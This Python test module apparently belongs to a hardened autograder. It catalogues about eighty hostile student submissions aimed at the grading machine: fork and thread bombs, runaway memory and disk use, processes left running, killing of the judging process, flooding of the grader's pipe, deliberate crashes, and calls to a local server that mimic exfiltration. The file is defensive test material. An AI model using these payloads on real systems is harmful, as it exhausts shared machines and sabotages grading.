"""Attacks that are after the machine: time, memory, disk, processes, the grader itself.

Most of them hide in `manifest`, where exactly one criterion of one point meets them:
whatever else the attacker loses was lost by the grader. They hand in the solution
otherwise, so that 9 points are theirs.
"""

import contextlib
import ctypes
from collections.abc import Callable
from pathlib import Path

from tests.attacks.attack import (
    SOLUTION,
    STARTER,
    Achieves,
    Attack,
    Graded,
    ends_in_nothing,
    leaves_running,
    visits,
)

MEGABYTE = 1 << 20
SEGMENT = 0x5EED0022  # the key of the System V segment that x22 leaves behind
REMOVE = 0  # IPC_RMID

MINUTES = "plain nbgrader waits 10 s for each criterion or 40 s for a dead kernel"
MACHINE = "plain nbgrader sets no limit: it would take this machine with it"
CAUGHT = "plain nbgrader survives it: the exception is caught where it is raised"
DEAD = "plain nbgrader loses the whole submission to it, as to x51"
HANDLED = "plain nbgrader has no border that this could flood"


# --------------------------------------------------------------------------------------
# Questions


def costs_more_than(points: int) -> Achieves:
    """Ask whether other criteria than the one that was hit were lost."""
    return lambda graded: graded.score != 10 - points


def never_ends(graded: Graded) -> bool:
    """Ask whether there is no score, or anything at all still runs."""
    return graded.score is None or bool(graded.run.left_running)


def speaks_backwards(graded: Graded) -> bool:
    """Ask whether a cell came so far that it printed its mark the wrong way round.

    The source holds the mark the right way round, so only running it shows this.
    """
    return graded.fill("@MARK@")[::-1] in graded.shown


def bloats(megabytes: int) -> Achieves:
    """Ask whether a graded notebook or feedback page is larger than that."""
    return lambda graded: any(
        path.stat().st_size > megabytes * MEGABYTE
        for folder in (graded.autograded.parent, graded.feedback.parent)
        for path in folder.rglob("*")
    )


def fills_the_disk(graded: Graded) -> bool:
    """Ask whether a large file, or one of many, stays anywhere in the course."""
    world = graded.world
    return any(
        path.name.startswith("hoard") and path.is_file()
        for folder in (world.course, world.checkout, world.home, world.temporary)
        for path in folder.rglob("hoard*")
    )


def stays_in_shared_memory(graded: Graded) -> bool:
    """Ask whether a file is left in the memory file system, and take it away."""
    path = Path("/dev/shm", graded.fill("@MARK@"))  # noqa: S108 - the attack's own
    left = path.exists()
    path.unlink(missing_ok=True)
    return left


def stays_as_segment(graded: Graded) -> bool:
    """Ask whether a System V segment is left, and take it away."""
    with contextlib.suppress(AttributeError):
        libc = ctypes.CDLL(None)
        segment = libc.shmget(SEGMENT, 0, 0)
        if segment >= 0:
            libc.shmctl(segment, REMOVE, None)
            return True
    return False


# --------------------------------------------------------------------------------------
# Ways to hand an attack in

IN_MANIFEST = """
{solution}

_known = set(_carriers)
_manifest_as_it_was = manifest

{trap}

def manifest(parcels):
    if {{name for name, _, _ in parcels}} <= _known:
        return trap(parcels)
    return _manifest_as_it_was(parcels)
"""


def trap(
    name: str,
    title: str,
    code: str,
    *,
    achieves: Achieves | None = None,
    not_shown: str = MINUTES,
    options: tuple[str, ...] = (),
) -> Attack:
    """An answer that is right but for `manifest`, which calls `trap(parcels)`."""
    return Attack(
        name,
        title,
        achieves or costs_more_than(1),
        goal="harm",
        answer=IN_MANIFEST.format(solution=SOLUTION, trap=code.strip("\n")),
        honest=9,
        not_shown=not_shown,
        options=options,
    )


def beside(
    name: str,
    title: str,
    achieves: Achieves,
    *cells: str,
    not_shown: str = "",
    wait: float = 0,
) -> Attack:
    """An untouched starter, and cells of the attacker's own behind it."""
    return Attack(
        name,
        title,
        achieves,
        goal="harm",
        after=cells,
        not_shown=not_shown,
        wait=wait,
    )


def spoilt(
    name: str,
    title: str,
    change: Callable[[str], str],
    *,
    not_shown: str,
    achieves: Achieves = ends_in_nothing,
    honest: int = 0,
) -> Attack:
    """A solution changed so that reading, compiling or loading it is the attack."""
    return Attack(
        name,
        title,
        achieves,
        goal="harm",
        answer=change(SOLUTION),
        honest=honest,
        not_shown=not_shown,
    )


# --------------------------------------------------------------------------------------
# Network and processes

NETWORK = [
    beside(
        "x01",
        "A cell sends what it knows to a server",
        visits,
        """
import urllib.request
urllib.request.urlopen("http://127.0.0.1:@PORT@/@MARK@", timeout=3)
""",
    ),
    beside(
        "x15",
        "A cell speaks to a local service through an abstract Unix socket",
        visits,
        """
import socket
with socket.socket(socket.AF_UNIX) as service:
    service.connect("\\0@SOCKET@")
    service.sendall(b"@MARK@")
""",
    ),
    Attack(
        "x16",
        "The judged function itself connects, by system call, past the module socket",
        visits,
        goal="harm",
        answer="""
import ctypes
import struct

libc = ctypes.CDLL(None)
to = struct.pack("=H", 2) + struct.pack("!H", @PORT@) + bytes([127, 0, 0, 1]) + bytes(8)
line = libc.socket(2, 1, 0)
libc.connect(line, to, len(to))
libc.send(line, b"@MARK@", len(b"@MARK@"), 0)
"""
        + STARTER,
    ),
]

SLEEPER = '"-c", "import time; time.sleep(60)", "@MARK@"'

PROCESSES = [
    beside(
        "x02",
        "Twenty detached processes outlive the notebook",
        leaves_running,
        f"""
import subprocess
import sys
for _ in range(20):
    subprocess.Popen([sys.executable, {SLEEPER}], start_new_session=True)
""",
        wait=1,
    ),
    beside(
        "x03",
        "A fork bomb in a cell",
        never_ends,
        """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
        not_shown=MACHINE,
    ),
    trap(
        "x17",
        "A fork bomb in a judged function",
        """
import os

def trap(parcels):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
        not_shown=MACHINE,
    ),
    beside(
        "x18",
        "A process forked by the C library leaves the session and becomes another",
        leaves_running,
        f"""
import ctypes
import os
import sys
if ctypes.CDLL(None).fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, {SLEEPER}])
""",
    ),
    beside(
        "x19",
        "A process is spawned without fork and exec in Python",
        leaves_running,
        f"""
import os
import sys
os.posix_spawn(sys.executable, [sys.executable, {SLEEPER}], os.environ, setsid=True)
""",
        not_shown="x18 shows that plain nbgrader leaves such processes",
    ),
    trap(
        "x33",
        "A bomb of threads",
        """
import threading
import time

def trap(parcels):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            pass
""",
        not_shown=MACHINE,
    ),
    trap(
        "x41",
        "A thread that is no daemon sleeps for an hour and holds the exit up",
        """
import threading
import time

def trap(parcels):
    threading.Thread(target=time.sleep, args=(3600,)).start()
    return []
""",
        not_shown="plain nbgrader kills the kernel's process when it is done",
    ),
    trap(
        "x42",
        "A function registered for the exit never returns",
        """
import atexit

def forever():
    while True:
        pass

def trap(parcels):
    atexit.register(forever)
    return []
""",
        not_shown="plain nbgrader kills the kernel's process when it is done",
    ),
]

# --------------------------------------------------------------------------------------
# Memory

MEMORY = [
    trap(
        "x04",
        "Memory is allocated without end",
        """
def trap(parcels):
    hoard = []
    while True:
        hoard.append(b"x" * (1 << 24))
""",
        not_shown=MACHINE,
    ),
    trap(
        "x43",
        "Memory is allocated without end, and MemoryError is swallowed",
        """
def trap(parcels):
    hoard = []
    while True:
        try:
            hoard.append(b"x" * (1 << 20))
        except MemoryError:
            pass
""",
        not_shown=MACHINE,
    ),
    beside(
        "x05",
        "Three gigabytes are held",
        speaks_backwards,
        'held = b"x" * (3 << 30)\nprint("@MARK@"[::-1])',
    ),
    beside(
        "x20",
        "Three gigabytes are mapped instead of allocated",
        speaks_backwards,
        """
import mmap
held = mmap.mmap(-1, 3 << 30)
for place in range(0, len(held), 4096):
    held[place] = 1
print("@MARK@"[::-1])
""",
        not_shown="x05 shows that plain nbgrader sets no limit",
    ),
    beside(
        "x65",
        "The limits are lifted before three gigabytes are held",
        speaks_backwards,
        """
import resource
for name in ("RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_NPROC", "RLIMIT_FSIZE"):
    try:
        resource.setrlimit(getattr(resource, name), (-1, -1))
    except (OSError, ValueError):
        pass
held = b"x" * (3 << 30)
print("@MARK@"[::-1])
""",
        not_shown="x05 shows that plain nbgrader sets no limit that could be lifted",
    ),
    beside(
        "x21",
        "A file stays in the memory file system of the machine",
        stays_in_shared_memory,
        """
with open("/dev/shm/@MARK@", "wb") as held:
    held.write(bytes(1 << 20))
""",
    ),
    beside(
        "x22",
        "A System V shared memory segment stays on the machine",
        stays_as_segment,
        f"""
import ctypes
assert ctypes.CDLL(None).shmget({SEGMENT}, 1 << 20, 0o1600) >= 0
""",
    ),
    trap(
        "x45",
        "Cycles of large objects pile up with the garbage collector switched off",
        """
import gc

def trap(parcels):
    gc.disable()
    gc.collect = lambda *args: 0
    while True:
        cycle = [b"x" * (1 << 22)]
        cycle.append(cycle)
""",
        not_shown=MACHINE,
    ),
]

# --------------------------------------------------------------------------------------
# Time

TIME = [
    Attack(
        "x06",
        "Every function runs for ever",
        ends_in_nothing,
        goal="harm",
        answer=SOLUTION
        + """

def quote(*given):
    while True:
        pass

label = days = manifest = add_carrier = quote
""",
        not_shown=MINUTES,
    ),
    trap(
        "x07",
        "A loop swallows every interrupt",
        """
def trap(parcels):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
        not_shown="",
        options=("--ExecutePreprocessor.timeout=6",),
    ),
    Attack(
        "x23",
        "The answer never finishes loading",
        ends_in_nothing,
        goal="harm",
        answer=SOLUTION + "\nwhile True:\n    pass\n",
        not_shown=MINUTES,
    ),
    Attack(
        "x12",
        "Forty cells sleep a second each: no cell is slow, the notebook is",
        speaks_backwards,
        goal="harm",
        after=(
            *["import time; time.sleep(1)"] * 40,
            'print("@MARK@"[::-1])',
        ),
        not_shown="plain nbgrader was seen to take 43 s for it: it has no total budget",
    ),
    trap(
        "x24",
        "An object is never done with being deleted",
        """
class Lingering:
    def __del__(self):
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass

def trap(parcels):
    Lingering()
    return []
""",
    ),
    trap(
        "x25",
        "The returned object has a repr that never ends",
        """
class Mumbling(list):
    def __repr__(self):
        while True:
            pass

    __str__ = __format__ = __repr__

def trap(parcels):
    return Mumbling(_manifest_as_it_was(parcels)[:-1])
""",
        not_shown="plain nbgrader copies a list before it shows it",
    ),
    trap(
        "x26",
        "The returned object compares without end",
        """
class Pondering:
    def __eq__(self, other):
        while True:
            pass

    __lt__ = __gt__ = __le__ = __ge__ = __ne__ = __eq__

    def __hash__(self):
        while True:
            pass

def trap(parcels):
    return [Pondering(), Pondering()]
""",
        not_shown="plain nbgrader never compares objects of learners",
    ),
    trap(
        "x27",
        "Every attribute of the returned object, its class included, takes for ever",
        """
class Slow:
    def __getattribute__(self, name):
        while True:
            pass

def trap(parcels):
    return Slow()
""",
    ),
    trap(
        "x28",
        "The raised exception has a text that never ends",
        """
class Chatty(Exception):
    def __str__(self):
        while True:
            pass

def trap(parcels):
    raise Chatty
""",
    ),
    trap(
        "x29",
        "The returned list is iterated without end",
        """
class Endless(list):
    def __iter__(self):
        while True:
            yield "post"

    def __len__(self):
        return 1

def trap(parcels):
    return Endless()
""",
        not_shown=MACHINE,
    ),
    trap(
        "x30",
        "A regular expression tries for years, deep inside C code",
        """
import re

def trap(parcels):
    return re.match(r"(a|a|aa)+$", "a" * 60 + "b")
""",
    ),
    trap(
        "x31",
        "A power has more digits than there is time",
        """
def trap(parcels):
    return [str(9 ** 9 ** 8 % 7)]
""",
    ),
    trap(
        "x32",
        "Sorting asks for a key that sleeps",
        """
import time

def trap(parcels):
    return sorted(range(1000), key=lambda each: time.sleep(5))
""",
    ),
    trap(
        "x44",
        "The clock is changed: sleeping, time and alarms mean nothing any more",
        """
import signal
import time

def trap(parcels):
    for name in ("time", "monotonic", "perf_counter", "process_time"):
        setattr(time, name, lambda: 0.0)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.alarm(0)
    signal.setitimer(signal.ITIMER_REAL, 0)
    time.sleep(3600)
""",
        not_shown="needs the 60 s of a cell; x07 shows that the alarm can be escaped",
    ),
    trap(
        "x46",
        "A storm of signals to itself",
        """
import os
import signal

def trap(parcels):
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        try:
            signal.signal(number, lambda *told: None)
        except (OSError, ValueError):
            pass
    signal.setitimer(signal.ITIMER_REAL, 0.0001, 0.0001)
    while True:
        for number in (signal.SIGUSR1, signal.SIGTERM, signal.SIGPIPE, signal.SIGCHLD):
            os.kill(os.getpid(), number)
""",
    ),
    trap(
        "x57",
        "The process stops itself",
        """
import os
import signal

def trap(parcels):
    os.kill(os.getpid(), signal.SIGSTOP)
    return []
""",
    ),
    Attack(
        "x70",
        "A fake of the judge's is asked for attributes without end",
        costs_more_than(2),
        goal="harm",
        answer=SOLUTION
        + """

_add_as_it_was = add_carrier

def add_carrier(name, carrier):
    if not all(hasattr(carrier, part) for part in ("quote", "label", "days")):
        while True:
            try:
                carrier.quote(1)
                carrier.label("x" * 100_000)
            except Exception:
                pass
    _add_as_it_was(name, carrier)
""",
        honest=8,
        not_shown=MINUTES,
    ),
]

# --------------------------------------------------------------------------------------
# Disk and output

TO_A_FILE = """
from pathlib import Path
with Path({place!r}, "hoard").open("wb") as hoard:
    for _ in range(2048):
        hoard.write(bytes(1 << 20))
"""

DISK = [
    beside(
        "x08",
        "A file of two gigabytes in the working folder",
        fills_the_disk,
        TO_A_FILE.format(place="."),
        not_shown="plain nbgrader was seen to leave 3.8 GB; x39 shows the same, small",
    ),
    beside(
        "x38",
        "A file of two gigabytes among the temporary files",
        fills_the_disk,
        """
import tempfile
from pathlib import Path
with Path(tempfile.gettempdir(), "hoard").open("wb") as hoard:
    for _ in range(2048):
        hoard.write(bytes(1 << 20))
""",
        not_shown="plain nbgrader leaves two gigabytes here; x39 shows the same, small",
    ),
    beside(
        "x39",
        "Thousands of small files in the working folder",
        fills_the_disk,
        """
import os
os.mkdir("hoards")
for number in range(3000):
    with open(f"hoards/hoard{number}", "x"):
        pass
""",
    ),
    beside(
        "x40",
        "Folders nested a thousand deep, which others must walk",
        fills_the_disk,
        """
import os
for _ in range(1000):
    os.mkdir("d")
    os.chdir("d")
open("hoard", "x").close()
""",
        not_shown="the folder cannot be removed by common means afterwards",
    ),
    beside(
        "x09",
        "One line of 60 MB on standard output",
        bloats(20),
        'print("x" * 60_000_000)',
    ),
    beside(
        "x10",
        "An HTML output of 60 MB",
        bloats(20),
        'from IPython.display import HTML\nHTML("<b>x</b>" * 7_500_000)',
    ),
    beside(
        "x66",
        "Two hundred pictures of 400 kB",
        bloats(20),
        """
import os
from IPython.display import display
for _ in range(200):
    picture = b"\\x89PNG\\r\\n\\x1a\\n" + os.urandom(400_000)
    display({"image/png": picture}, raw=True)
""",
        not_shown="x10 shows that plain nbgrader keeps rich outputs whole",
    ),
    beside(
        "x67",
        "Fifty thousand small outputs in one cell",
        bloats(5),
        """
from IPython.display import display
for number in range(50_000):
    display({"text/plain": str(number) * 10}, raw=True)
""",
        not_shown="takes plain nbgrader minutes",
    ),
    beside(
        "x11",
        "Printing never ends",
        never_ends,
        'while True:\n    print("x" * 1000)',
        not_shown="takes the 60 s of a cell and 1 GB; it was seen to be cut",
    ),
    beside(
        "x68",
        "Printing never ends, past Python, straight to every file descriptor",
        never_ends,
        """
import os
line = b"x" * 65536
while True:
    for number in range(1, 64):
        try:
            os.write(number, line)
        except OSError:
            pass
""",
        not_shown="writes into the kernel's own sockets: the outcome is not certain",
    ),
    beside(
        "x61",
        "Half characters, NULs, bells and turned text are printed",
        ends_in_nothing,
        r"""
import sys
print("\ud800 \udfff \x00 \x07 \x1b[2J \u202e backwards \u2066 \ufffe \x85 \u2028")
sys.stdout.write("\udc80" * 1000)
sys.stderr.write("\ud800\x00" * 1000)
raise ValueError("\ud800\x00\u202e")
""",
        not_shown="plain nbgrader replaces half characters; no harm was seen",
    ),
    beside(
        "x69",
        "An error with a text of 60 MB",
        bloats(20),
        'raise ValueError("x" * 60_000_000)',
        not_shown="x09 shows that plain nbgrader keeps lines of any length",
    ),
]

# --------------------------------------------------------------------------------------
# What comes back to the judge

ANSWERS = [
    trap(
        "x34",
        "Recursion without end, with the limit lifted: the stack overflows",
        """
import sys

def trap(parcels):
    sys.setrecursionlimit(10**9)

    class Deep:
        def __getattr__(self, name):
            return getattr(self, name + "x")

    return Deep().a
""",
        not_shown=DEAD,
    ),
    trap(
        "x35",
        "A list nested a hundred thousand deep comes back",
        """
def trap(parcels):
    nest = []
    for _ in range(100_000):
        nest = [nest]
    return nest
""",
        not_shown=CAUGHT,
    ),
    trap(
        "x37",
        "A list that holds itself comes back",
        """
def trap(parcels):
    ring = []
    ring.append(ring)
    return ring
""",
        not_shown=CAUGHT,
    ),
    trap(
        "x36",
        "A number of ten million digits comes back",
        """
def trap(parcels):
    return 1 << 33_000_000
""",
        not_shown="plain nbgrader loses only this criterion to it",
    ),
    trap(
        "x71",
        "A text of 500 MB comes back",
        """
def trap(parcels):
    return ["x" * 500_000_000]
""",
        not_shown="plain nbgrader only compares it, and finds it different",
    ),
    trap(
        "x72",
        "A million objects come back, each to be held for the judge",
        """
def trap(parcels):
    return [object() for _ in range(1_000_000)]
""",
        not_shown=HANDLED,
    ),
    trap(
        "x73",
        "A dictionary whose keys all have the same hash comes back",
        """
def trap(parcels):
    return {number * ((1 << 61) - 1): number for number in range(10_000)}
""",
        not_shown=HANDLED,
    ),
    trap(
        "x74",
        "A chain of a hundred thousand causes is raised",
        """
def trap(parcels):
    error = ValueError("first")
    for _ in range(100_000):
        after = ValueError("next")
        after.__cause__ = after.__context__ = error
        error = after
    raise error
""",
        not_shown=DEAD,
    ),
    trap(
        "x75",
        "An exception whose class has ten thousand bases above it is raised",
        """
def trap(parcels):
    kind = ValueError
    for number in range(10_000):
        kind = type("K" * 100, (kind,), {})
    raise kind("deep")
""",
        not_shown=MINUTES,
    ),
    trap(
        "x62",
        "Half characters and NULs come back",
        r"""
def trap(parcels):
    return ["\ud800", "\udfff\x00", "\u202e", b"\xff", float("nan"), "\ufeff"]
""",
        not_shown="plain nbgrader compares them like any other text",
    ),
    trap(
        "x76",
        "An exception group, an exit and a generator's end come back as exceptions",
        """
def trap(parcels):
    raise BaseExceptionGroup("all", [SystemExit(0), GeneratorExit()])
""",
        not_shown="plain nbgrader loses only this criterion to it",
    ),
    trap(
        "x77",
        "KeyboardInterrupt is raised, as if the instructor had stopped the grading",
        """
def trap(parcels):
    raise KeyboardInterrupt
""",
        not_shown="plain nbgrader loses only this criterion to it",
    ),
]

# --------------------------------------------------------------------------------------
# Ending the process

DEATHS = [
    trap(
        "x51",
        "The interpreter reads from address 0",
        """
import ctypes

def trap(parcels):
    return ctypes.string_at(0)
""",
        not_shown="",
    ),
    trap(
        "x52",
        "The interpreter runs bytecode that nobody compiled",
        """
def trap(parcels):
    broken = trap.__code__.replace(co_code=bytes([100, 255] * 50), co_consts=())
    return type(trap)(broken, {})(parcels)
""",
        not_shown=DEAD,
    ),
    trap(
        "x53",
        "The process dies and leaves a picture of its memory on disk",
        """
import os
import resource

def trap(parcels):
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))
    except (OSError, ValueError):
        pass
    hoard = b"x" * 500_000_000
    os.kill(os.getpid(), 6)
    return [len(hoard)]
""",
        not_shown=DEAD,
    ),
    trap(
        "x54",
        "The process aborts",
        "import os\n\ndef trap(parcels):\n    os.abort()",
        not_shown=DEAD,
    ),
    trap(
        "x55",
        "The whole process group is killed",
        "import os\n\ndef trap(parcels):\n    os.kill(0, 9)",
        not_shown=DEAD,
    ),
    trap(
        "x56",
        "The process that judges is killed, if it is the parent",
        """
import os

def trap(parcels):
    if os.getppid() > 1:
        os.kill(os.getppid(), 9)
    return []
""",
        not_shown="belongs to w10, which shows it",
    ),
    trap(
        "x58",
        "Every file descriptor is closed",
        "import os\n\ndef trap(parcels):\n    os.closerange(0, 4096)\n    return []",
        not_shown=DEAD,
    ),
    trap(
        "x78",
        "File descriptors are used up",
        """
import os

held = []

def trap(parcels):
    try:
        while True:
            held.append(os.open(os.devnull, os.O_RDONLY))
    except OSError:
        pass
    return []
""",
        not_shown="plain nbgrader holds the same limit and loses what comes after",
    ),
]

# --------------------------------------------------------------------------------------
# The border's pipe

PIPE = [
    trap(
        "x59",
        "The pipe to the judge is filled with noise",
        """
import os

def trap(parcels):
    while True:
        for number in range(3, 64):
            try:
                os.write(number, b'{"noise": ' + b"[" * 65536)
            except OSError:
                pass
""",
        not_shown=HANDLED,
    ),
    trap(
        "x60",
        "The judge gets one byte a second",
        """
import os
import time

def trap(parcels):
    while True:
        for number in range(3, 64):
            try:
                os.write(number, b" ")
            except OSError:
                pass
        time.sleep(1)
""",
        not_shown=HANDLED,
    ),
    trap(
        "x63",
        "The pipe to the judge is read empty by a thread of the learner's",
        """
import os
import threading

def thief():
    while True:
        for number in range(3, 64):
            try:
                os.set_blocking(number, False)
                os.read(number, 65536)
            except OSError:
                pass

def trap(parcels):
    threading.Thread(target=thief, daemon=True).start()
    return []
""",
        not_shown=HANDLED,
    ),
    trap(
        "x64",
        "Lines without end, numbers without end and names that are none, as replies",
        """
import os

REPLIES = [
    b"[" * 200_000 + b"\\n",
    b"9" * 200_000 + b"\\n",
    b'{"value": NaN}\\n',
    b'{"__class__": "os.system"}\\n',
    b"\\xff\\xfe\\x00\\n",
    b"null\\n" * 1000,
    b"{}\\n",
]

def trap(parcels):
    for number in range(3, 64):
        for reply in REPLIES:
            try:
                os.write(number, reply)
            except OSError:
                pass
    return []
""",
        not_shown=HANDLED,
    ),
]

# --------------------------------------------------------------------------------------
# Source that is hard to read

SOURCES = [
    spoilt(
        "x47",
        "The answer holds ninety thousand brackets, one in the other",
        lambda solution: f"{solution}\nnest = {'(' * 90_000}{')' * 90_000}\n",
        not_shown=CAUGHT,
    ),
    spoilt(
        "x79",
        "The answer holds a hundred thousand minus signs before one number",
        lambda solution: f"{solution}\nnumber = {'-' * 100_000}1\n",
        not_shown=CAUGHT,
    ),
    spoilt(
        "x49",
        "The answer holds a sum of forty thousand terms: a tree as deep",
        lambda solution: f"{solution}\nnumber = 1{' + x' * 40_000}\n",
        not_shown=CAUGHT,
    ),
    spoilt(
        "x80",
        "The answer holds attributes of attributes, fifty thousand deep, never run",
        lambda solution: f"{solution}\ndef unused(x):\n    return x{'.a' * 50_000}\n",
        not_shown=CAUGHT,
    ),
    spoilt(
        "x48",
        "The answer holds one line of 150 kB",
        lambda solution: f"{solution}\ntext = '{'x' * 150_000}'\n",
        not_shown="plain nbgrader gives it the points that it earns",
        achieves=costs_more_than(0),
        honest=10,
    ),
    spoilt(
        "x50",
        "The answer holds a number that Python reads but refuses to print",
        lambda solution: f"{solution}\nnumber = 0x{'f' * 20_000}\n",
        not_shown="plain nbgrader gives it the points that it earns",
        honest=10,
    ),
    spoilt(
        "x81",
        "The answer holds a power that takes years, on the level of the module",
        lambda solution: f"{solution}\nnumber = 9 ** 9 ** 9 ** 9\n",
        not_shown=MACHINE,
    ),
    spoilt(
        "x82",
        "The answer holds four hundred nested blocks",
        lambda solution: (
            f"{solution}\n" + "".join(f"{' ' * n}if 1:\n" for n in range(400)) + "x"
        ),
        not_shown=CAUGHT,
    ),
    spoilt(
        "x83",
        "The answer holds a NUL",
        lambda solution: f"{solution}\nname = '\x00'\n",
        not_shown=CAUGHT,
    ),
    spoilt(
        "x84",
        "The answer claims an encoding that does not exist",
        lambda solution: f"# -*- coding: no-such-thing -*-\n{solution}",
        not_shown="plain nbgrader gives it the points that it earns",
        honest=10,
    ),
    spoilt(
        "x85",
        "The answer compiles a hundred thousand brackets when it is loaded",
        lambda solution: f"{solution}\ncompile('(' * 100_000, 'deep', 'exec')\n",
        not_shown=CAUGHT,
    ),
    spoilt(
        "x86",
        "The answer holds three thousand functions for the judge to measure",
        lambda solution: (
            solution
            + "\n"
            + "".join(
                f"def f{n}(a):\n    return a if a else -a\n" for n in range(3_000)
            )
        ),
        not_shown="plain nbgrader reads it as slowly; no harm beyond the time",
        honest=10,
    ),
]

ATTACKS = [
    *NETWORK,
    *PROCESSES,
    *MEMORY,
    *TIME,
    *DISK,
    *ANSWERS,
    *DEATHS,
    *PIPE,
    *SOURCES,
]
